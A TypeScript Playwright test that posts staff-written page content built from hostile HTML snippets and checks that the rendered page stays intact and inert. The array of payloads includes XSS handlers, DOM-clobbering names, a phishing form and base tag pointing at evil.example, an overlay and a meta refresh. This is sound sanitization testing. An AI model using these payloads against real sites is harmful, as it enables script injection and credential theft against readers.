// What staff write reaches every reader: whatever it holds, the page around it stays whole and alive.
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { launchBrowser } from "./browser";
import { type Park, startPark } from "./park";
import { takenOver } from "./people";

let park: Park;
let browser: Browser;
beforeAll(async () => {
  [park, browser] = await Promise.all([startPark(), launchBrowser()]);
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await park?.stop();
});

const state = '{"route":"home","lng":"zh","texts":{},"settings":{},"data":{}}';
const hostile = [
  `<p id="state">${state}</p><h2 id="state">State</h2><script type="application/json" data-page-state>${state}</script>`,
  `<div id="root"></div><a id="content" name="documentElement" href="#rules">Rules</a>`,
  `<img name="querySelector" src="/brand/mark.png" alt="Mark"><img src="x" onerror="window.ran = true" alt="">`,
  `<svg><animate onbegin="window.ran = true" attributeName="x" dur="1s"></animate></svg><base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name="cookie"><button>Sign in</button></form>`,
  `<div style="position:fixed;inset:0;z-index:9999" class="cover">Over it all</div><style>nav{display:none}</style>`,
  `<iframe src="/"></iframe><template><p>x</p></template><meta http-equiv="refresh" content="0;url=/news">`,
  `<h2 id="rules">The rules</h2></div></div></main><details><a href="/news">Left open`,
];

it("leaves a page whole and interactive, whatever staff write", async () => {
  const written = await fetch(`${park.url}/api/pages`, {
    method: "POST",
    headers: { authorization: `Bearer ${park.token}`, "content-type": "application/json" },
    body: JSON.stringify({ data: { slug: "policy", Title_en: "Policy", Body_en: hostile.join("") } }),
  });
  expect(written.status).toBe(201);
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, reducedMotion: "reduce" });
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && !message.text().includes("404")) complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(`${park.url}/policy`, { waitUntil: "networkidle" });
  expect(complaints).toEqual([]);
  expect(new URL(page.url()).pathname).toBe("/policy");
  expect(await page.evaluate(() => (window as { ran?: boolean }).ran)).toBeUndefined();
  expect(await page.locator("html").getAttribute("lang")).toBe("en-AU");

  // In its place, and no more than text.
  const main = page.locator("main");
  expect(await main.locator("form, input, style, iframe, template, svg animate, [style], [name]").count()).toBe(0);
  expect(await page.locator("main footer").count()).toBe(0);
  expect(await page.locator("footer").isVisible()).toBe(true);
  await main.getByRole("link", { name: "Rules", exact: true }).click();
  expect(await page.evaluate(() => document.querySelector(":target")?.textContent)).toBe("The rules");

  // Alive: a menu of the bar opens, and nothing lies over it.
  const menu = page.locator("header details").first();
  await takenOver(menu);
  await menu.locator("summary").click();
  expect(await menu.evaluate((element) => (element as HTMLDetailsElement).open)).toBe(true);
  await page.keyboard.press("Escape"); // by the program's own script
  await expect.poll(() => menu.evaluate((element) => (element as HTMLDetailsElement).open)).toBe(false);
  await context.close();
});
